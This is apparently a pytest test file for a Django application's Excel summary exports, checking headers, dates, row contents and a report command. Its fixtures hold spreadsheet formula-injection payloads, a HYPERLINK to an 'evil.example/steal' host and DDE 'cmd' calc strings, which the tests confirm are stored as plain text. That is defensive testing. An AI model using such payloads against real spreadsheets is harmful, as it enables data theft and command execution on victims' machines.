"""The five Excel summaries, opened with openpyxl and checked cell by cell against the database."""

import datetime
import io
import zoneinfo

import openpyxl
import pytest
from django.conf import settings
from django.core.management import CommandError, call_command
from django.utils import translation

from appraisal.models import Focus
from appraisal.services import appraisal_year_create
from hearings.models import Answer, Ballot, Hearing
from hearings.selectors import hearing_tally
from inspections.models import Inspection
from reports.exports import SUMMARIES, Scope, summary_named, write_summary
from reports.exports import deliverables as summary4
from reports.exports import hearings as summary3
from reports.exports import inspections as summary2
from reports.exports import selfcheck as summary1
from reports.exports import statistics as summary5
from reports.statistics import annual_statistics
from selfcheck.models import Problem
from selfcheck.services.workbook import HEADERS, problem_row
from units.models import Deliverable, Participation

from ..factories import (
    FindingFactory,
    InspectionFactory,
    ProblemFactory,
    SubUnitFactory,
    SupervisorFactory,
    SurveyResultFactory,
    UnitFactory,
    first_item_of,
)

pytestmark = pytest.mark.django_db
SHANGHAI = zoneinfo.ZoneInfo("Asia/Shanghai")
HYPERLINK = '=HYPERLINK("http://evil.example/steal","点此查看详情")'
INJECTIONS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


@pytest.fixture(autouse=True)
def today(time_machine):
    time_machine.move_to(datetime.datetime(2026, 9, 10, 9, tzinfo=SHANGHAI), tick=False)


@pytest.fixture
def year(db):
    return appraisal_year_create(year=2026, focus=Focus.DEPARTMENTS)


@pytest.fixture
def school(db):
    return UnitFactory(name="区属中小学", kind=Focus.INDUSTRIES, sector="教育")


@pytest.fixture
def district(year, unit_a, unit_b, school):
    """Three units of 2026 (two departments, one industry unit) and a register with formula-like text."""
    for unit in (unit_a, unit_b, school):
        Participation.objects.create(year=year, unit=unit, is_focus=unit != unit_b)
    window = SubUnitFactory(unit=unit_a, name="婚姻登记处")
    ProblemFactory(
        year=year,
        unit=unit_a,
        subunit=window,
        source="visit",
        description=INJECTIONS[0],
        cause=INJECTIONS[1],
        measure=INJECTIONS[2],
        note=INJECTIONS[3],
        disposition="deadline",
        due_on=datetime.date(2026, 9, 30),
        status="in_progress",
    )
    ProblemFactory(year=year, unit=unit_b, source="complaint", responsible="", disposition="")
    ProblemFactory(year=year, unit=unit_a, source="inspection", status="verified")
    ProblemFactory(
        year=year, unit=school, item=first_item_of(school), source="media", found_on=datetime.date(2026, 8, 2)
    )
    last_year = appraisal_year_create(year=2025, focus=Focus.INDUSTRIES)
    ProblemFactory(year=last_year, unit=unit_a, description="去年的问题")
    return year


def build(kind, year, **scope):
    buffer = io.BytesIO()
    rows = write_summary(kind=kind, scope=Scope(year, **scope), file=buffer)
    buffer.seek(0)
    return rows, openpyxl.load_workbook(buffer)


def cell_value(value):
    """What openpyxl reads back for what was written: dates as datetimes, empty text as nothing."""
    if isinstance(value, datetime.date) and not isinstance(value, datetime.datetime):
        return datetime.datetime.combine(value, datetime.time())
    return None if value == "" else value


def data(sheet):
    return [[cell.value for cell in row] for row in sheet.iter_rows(min_row=3)]


def expected(values):
    return [cell_value(value) for value in values]


def test_summary_1_is_every_units_register_in_the_official_columns(district, unit_a, unit_b, school):
    rows, workbook = build("selfcheck", district)

    assert rows == 4
    assert workbook.sheetnames == [title for _kind, title in summary1.SHEETS]
    for title in workbook.sheetnames:
        sheet = workbook[title]
        assert settings.DISTRICT_NAME in sheet["A1"].value and "2026" in sheet["A1"].value
        assert summary1.TITLE in sheet["A1"].value
        assert [cell.value for cell in sheet[2]] == HEADERS
        assert sheet.freeze_panes == "A3"
        assert sheet.column_dimensions["G"].width == 40  # 问题描述, the register's width
    with translation.override(settings.LANGUAGE_CODE):
        departments = Problem.objects.filter(year=district, unit__kind=Focus.DEPARTMENTS).order_by("unit__name", "id")
        industries = Problem.objects.filter(year=district, unit__kind=Focus.INDUSTRIES)
        # The unit register's own row function is the oracle: the merged summary must say what each register says.
        assert data(workbook[summary1.SHEETS[0][1]]) == [
            expected(problem_row(p, seq=n, unit=p.unit)[: len(HEADERS)]) for n, p in enumerate(departments, start=1)
        ]
        assert data(workbook[summary1.SHEETS[1][1]]) == [
            expected(problem_row(p, seq=n, unit=p.unit)[: len(HEADERS)]) for n, p in enumerate(industries, start=1)
        ]
    assert [row[1] for row in data(workbook[summary1.SHEETS[0][1]])] == ["区司法局", "区民政局", "区民政局"]


def test_dates_are_real_dates(district):
    _rows, workbook = build("selfcheck", district)
    found_on = workbook[summary1.SHEETS[1][1]]["E3"]
    assert found_on.is_date and found_on.value == datetime.datetime(2026, 8, 2)
    assert found_on.number_format == "yyyy-mm-dd"


def test_text_that_looks_like_a_formula_is_written_as_text(district, unit_a):
    _rows, workbook = build("selfcheck", district, unit=unit_a)
    sheet = workbook[summary1.SHEETS[0][1]]
    first = {header: sheet.cell(row=3, column=n) for n, header in enumerate(HEADERS, start=1)}
    for header, text in zip(["问题描述", "原因分析", "整改措施", "备注"], INJECTIONS, strict=True):
        assert first[header].value == text
        assert first[header].data_type == "s", header
    assert len(data(sheet)) == 2  # unit A only
    assert unit_a.name in sheet["A1"].value


def test_characters_a_workbook_cannot_hold_are_dropped(district, unit_b):
    Problem.objects.filter(unit=unit_b).update(description="窗口\x0b无人\x1f值守")
    _rows, workbook = build("selfcheck", district, unit=unit_b)
    assert workbook[summary1.SHEETS[0][1]]["G3"].value == "窗口无人值守"


@pytest.fixture
def inspections(district, unit_a, unit_b):
    """A covert inspection with two findings, an open one with none, one outside the period, one draft."""
    at = datetime.datetime(2026, 7, 20, 10, 30, tzinfo=SHANGHAI)
    covert = InspectionFactory(
        supervisor=SupervisorFactory(name="暗访员甲"),
        year=district,
        unit=unit_a,
        subunit=unit_a.subunits.get(),
        occurred_at=at,
        mode="covert",
        methods=["accompany", "other"],
        other_method="电话暗访",
        status="accepted",
    )
    FindingFactory(inspection=covert, observed="=cmd|' /C calc'!A0", place="大厅", livelihood=True)
    FindingFactory(inspection=covert, observed="午间无人", place="")
    InspectionFactory(
        supervisor=SupervisorFactory(name="明查员乙"),
        year=district,
        unit=unit_b,
        occurred_at=at + datetime.timedelta(days=5),
        mode="open",
        methods=["ask_users"],
        status="submitted",
    )
    InspectionFactory(year=district, unit=unit_b, occurred_at=at + datetime.timedelta(days=60), status="submitted")
    InspectionFactory(year=district, unit=unit_a, occurred_at=at, status="draft")
    return covert


def test_summary_2_lists_each_problem_found_in_the_period_with_its_supervisor(inspections, district):
    scope = {"date_from": datetime.date(2026, 7, 1), "date_to": datetime.date(2026, 7, 31)}
    rows, workbook = build("inspections", district, **scope)

    sheet = workbook[summary2.SHEET]
    assert "2026-07-01 至 2026-07-31" in sheet["A1"].value
    assert [cell.value for cell in sheet[2]] == [header for header, _width in summary2.COLUMNS]
    with translation.override(settings.LANGUAGE_CODE):
        covert, accepted = str(Inspection.Mode.COVERT.label), str(Inspection.Status.ACCEPTED.label)
        methods = f"{Inspection.Method.ACCOMPANY.label}、电话暗访"
        item = first_item_of(inspections.unit).name
        assert data(sheet) == [
            [1, datetime.datetime(2026, 7, 20, 10, 30), "区民政局", "婚姻登记处", covert, methods, "暗访员甲",
             "陪同群众办理业务", item, "=cmd|' /C calc'!A0", "大厅", "是", accepted],
            [2, datetime.datetime(2026, 7, 20, 10, 30), "区民政局", "婚姻登记处", covert, methods, "暗访员甲",
             "陪同群众办理业务", item, "午间无人", None, "否", accepted],
            [3, datetime.datetime(2026, 7, 25, 10, 30), "区司法局", None, str(Inspection.Mode.OPEN.label),
             str(Inspection.Method.ASK_USERS.label), "明查员乙", "陪同群众办理业务", None, "未发现问题", None, None,
             str(Inspection.Status.SUBMITTED.label)],
        ]  # fmt: skip
    assert sheet["J3"].data_type == "s"
    assert rows == 3


def test_summary_2_without_a_period_takes_the_whole_year(inspections, district, unit_b):
    rows, _workbook = build("inspections", district)
    assert rows == 4
    assert build("inspections", district, unit=unit_b)[0] == 2


@pytest.fixture
def hearing(district, unit_a):
    """A closed hearing of unit A with three paper ballots, its results frozen as closing freezes them."""
    hearing = Hearing.objects.create(
        unit=unit_a, year=district, held_on=datetime.date(2026, 10, 20), venue="会议室", voters=3, paper_ballots=3
    )
    answers = [Answer.SATISFIED, Answer.FAIRLY_SATISFIED, Answer.UNKNOWN]
    for answer in answers:
        Ballot.objects.create(hearing=hearing, origin="paper", answers={"1": answer, "2": Answer.DISSATISFIED})
    hearing.results = hearing_tally(hearing)
    hearing.status = Hearing.Status.CLOSED
    hearing.save()
    return hearing


def test_summary_3_gives_per_unit_and_item_the_four_counts_and_the_rate(hearing, district, school):
    SurveyResultFactory(year=district, unit=school, respondents=100, satisfied=70, fairly=20, dissatisfied=5)
    rows, workbook = build("hearings", district)

    sheet = workbook[summary3.HEARING_SHEET]
    assert [cell.value for cell in sheet[2]] == [header for header, _width in summary3.HEARING_COLUMNS]
    lines = data(sheet)
    items = hearing.results["items"]
    assert len(lines) == len(items) + 1
    with translation.override(settings.LANGUAGE_CODE):
        department = str(Focus.DEPARTMENTS.label)
        industry = str(Focus.INDUSTRIES.label)
    first = items[0]
    assert lines[0] == [1, "区民政局", department, datetime.datetime(2026, 10, 20), first["name"], 1, 1, 0, 1, 100, 90]
    assert lines[1][5:9] == [0, 0, 3, 0] and lines[1][9:] == [0, 0]
    assert lines[2][5:9] == [0, 0, 0, 0] and lines[2][9:] == [None, None]  # an item nobody rated
    total = lines[-1]
    assert total[4] == summary3.TOTAL
    overall = hearing.results["overall"]
    assert total[5:9] == [overall["counts"][answer] for answer in Answer.values]
    assert str(total[9]) == overall["rate"].rstrip("0").rstrip(".")

    survey = workbook[summary3.SURVEY_SHEET]
    # (70 + 20) ÷ (100 − 5 don't know) and (70 × 100 + 20 × 80) ÷ 95, the year's default formula and weights.
    assert data(survey) == [[1, "区属中小学", industry, 100, 70, 20, 5, 5, 94.74, 90.53]]
    assert rows == len(lines) + 1


def test_summary_4_is_the_deliverables_matrix_with_status_and_dates(district, unit_a, unit_b, office_user):
    submitted = datetime.datetime(2026, 7, 8, 15, tzinfo=SHANGHAI)
    Deliverable.objects.create(
        year=district,
        unit=unit_a,
        kind="plan",
        status="accepted",
        submitted_at=submitted,
        reviewed_at=submitted + datetime.timedelta(days=3),
        reviewed_by=office_user,
    )
    Deliverable.objects.create(year=district, unit=unit_a, kind="contacts", status="returned", comment="缺传真")
    rows, workbook = build("deliverables", district)

    sheet = workbook[summary4.SHEET]
    headers = [cell.value for cell in sheet[2]]
    assert headers[:4] == ["序号", "单位", "类别", "重点评议"] and len(headers) == 4 + 3 * len(Deliverable.Kind.choices)
    lines = {line[1]: line for line in data(sheet)}
    assert rows == 3 and set(lines) == {"区民政局", "区司法局", "区属中小学"}
    with translation.override(settings.LANGUAGE_CODE):
        assert str(Deliverable.Kind.PLAN.label) in headers[4] and "7月10日" in headers[4]
        minzheng = lines["区民政局"]
        assert minzheng[2:4] == [str(Focus.DEPARTMENTS.label), "是"]
        assert minzheng[4:7] == [str(Deliverable.Status.ACCEPTED.label), datetime.datetime(2026, 7, 8),
                                 datetime.datetime(2026, 7, 11)]  # fmt: skip
        returned = str(Deliverable.Status.RETURNED.label)
        assert minzheng[7] == f"{returned}（逾期62天）" and minzheng[8:10] == [None, None]
        service_objects = 4 + 3 * Deliverable.Kind.values.index("service_objects")
        # A focus department owes its service objects the year after; unit B is no focus unit at all.
        assert minzheng[service_objects] == summary4.NOT_OWED
        assert lines["区司法局"][4::3] == [summary4.NOT_OWED] * len(Deliverable.Kind.choices)
        assert lines["区属中小学"][4] == f"{Deliverable.Status.MISSING.label}（逾期62天）"


def test_summary_5_is_the_annual_statistics_with_score_and_rank(district, hearing, unit_a, unit_b):
    rows, workbook = build("statistics", district)

    sheet = workbook[summary5.SHEET]
    headers = [cell.value for cell in sheet[2]]
    assert headers == [header for header, _width in summary5.columns()]
    lines = data(sheet)
    stats = annual_statistics(district)
    assert rows == len(lines) == len(stats) == 3
    assert [line[1] for line in lines] == [row["unit"]["name"] for row in stats]
    minzheng = next(line for line in lines if line[1] == unit_a.name)
    column = dict(zip(headers, minzheng, strict=True))
    found = Problem.objects.filter(year=district, unit=unit_a)
    assert column["发现问题"] == found.count() == 2
    with translation.override(settings.LANGUAGE_CODE):
        assert column[f"问题来源：{Problem.Source.VISIT.label}"] == 1
        assert column[f"问题来源：{Problem.Source.INSPECTION.label}"] == 1
        assert column[f"问题来源：{Problem.Source.SELF_CHECK.label}"] == 0
    assert column["已验证"] == found.filter(status="verified").count() == 1
    assert column["逾期未整改"] == 0
    assert column["述职评议满意率(%)"] == float(hearing.results["overall"]["rate"])
    row = next(row for row in stats if row["unit"]["id"] == unit_a.pk)
    assert column["综合得分"] == float(row["score"]) and column["排名"] == row["rank"]
    # Unit B is no focus unit this year: listed last, not evaluated, no score (never 0).
    unit_b_line = dict(zip(headers, lines[-1], strict=True))
    assert unit_b_line["单位"] == unit_b.name and unit_b_line["重点评议"] == "否"
    assert unit_b_line["排名"] == summary5.NOT_EVALUATED and unit_b_line["综合得分"] is None

    _rows, single = build("statistics", district, unit=unit_a)
    assert data(single[summary5.SHEET]) == [minzheng]


def test_summaries_are_named_by_short_name_or_number():
    assert summary_named("1") is SUMMARIES["selfcheck"]
    assert summary_named("Statistics") is SUMMARIES["statistics"]
    assert summary_named("6") is None and summary_named("ballots") is None


def test_the_command_builds_any_summary_into_a_file(district, tmp_path):
    out = tmp_path / "summary.xlsx"
    stdout = io.StringIO()
    call_command("export_report", "1", "--year", "2026", "--out", str(out), stdout=stdout)
    assert "4" in stdout.getvalue() and str(out) in stdout.getvalue()
    assert openpyxl.load_workbook(out).sheetnames == [title for _kind, title in summary1.SHEETS]

    call_command("export_report", "deliverables", "--year", "2026", "--out", str(out), stdout=stdout)
    assert openpyxl.load_workbook(out).sheetnames == [summary4.SHEET]


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["ballots", "--year", "2026"], "ballots"),
        (["1", "--year", "2019"], "2019"),
        (["1", "--year", "2026", "--unit", "999999"], None),
        (["2", "--year", "2026", "--from", "2026-13-01"], "2026-13-01"),
    ],
)
def test_the_command_says_what_is_wrong(district, tmp_path, arguments, message):
    with pytest.raises(CommandError) as error:
        call_command("export_report", *arguments, "--out", str(tmp_path / "x.xlsx"))
    if message:
        assert message in str(error.value)
    assert not (tmp_path / "x.xlsx").exists()
